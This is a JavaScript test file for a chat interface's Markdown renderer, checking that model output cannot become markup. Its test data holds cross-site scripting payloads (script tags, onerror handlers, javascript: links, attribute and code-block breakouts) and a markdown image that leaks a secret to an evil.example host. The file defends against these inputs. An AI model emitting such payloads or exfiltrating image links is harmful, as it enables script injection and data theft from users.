// The Markdown renderer of the chat page: what a model writes is text,
// never markup of its own.
import { test } from "node:test";
import assert from "node:assert/strict";
import { renderMarkdown, safeUrl } from "../dist/lib.mjs";

test("Markdown renders", () => {
  assert.equal(renderMarkdown("Hello **world** and `x < y`"), "<p>Hello <strong>world</strong> and <code>x &lt; y</code></p>");
  assert.equal(renderMarkdown("# Title\n\n- one\n- *two*\n\n1. first"), "<h3>Title</h3>\n<ul><li>one</li><li><em>two</em></li></ul>\n<ol><li>first</li></ol>");
  assert.equal(renderMarkdown("```go\nfunc main() {}\n```"), '<pre><code class="lang-go">func main() {}</code></pre>');
  assert.equal(renderMarkdown("[docs](https://example.com/a_b_c?x=1&y=2)"),
    '<p><a href="https://example.com/a_b_c?x=1&amp;y=2" title="https://example.com/a_b_c?x=1&amp;y=2">docs</a></p>');
});

test("what the model writes cannot become markup", () => {
  for (const [md, bad] of [
    ['<img src=x onerror="alert(1)">', /<img/],
    ["<script>alert(1)</script>", /<script/],
    ["[x](javascript:alert(1))", /href/],
    ['[x](https://a.example/" onmouseover="alert(1))', /onmouseover="/],
    ["![secret](https://evil.example/?q=secret)", /<img|href/],
    ["```\n</code></pre><script>alert(1)</script>\n```", /<script/],
    ["`</code><img src=x onerror=alert(1)>`", /<img/],
    ["**<b onclick=alert(1)>x</b>**", /<b /],
    ["[<img src=x>](https://example.com)", /<img/],
    ["\u0000 0 \u0000 [a](https://example.com)", /\u0000/],
  ]) {
    const html = renderMarkdown(md);
    assert.doesNotMatch(html, bad, `${JSON.stringify(md)} rendered as ${html}`);
  }
  assert.equal(renderMarkdown("![secret](https://evil.example/?q=secret)"), "<p>image: secret</p>");
  assert.equal(safeUrl("javascript:alert(1)"), "");
  assert.equal(safeUrl(" https://example.com "), "https://example.com");
});
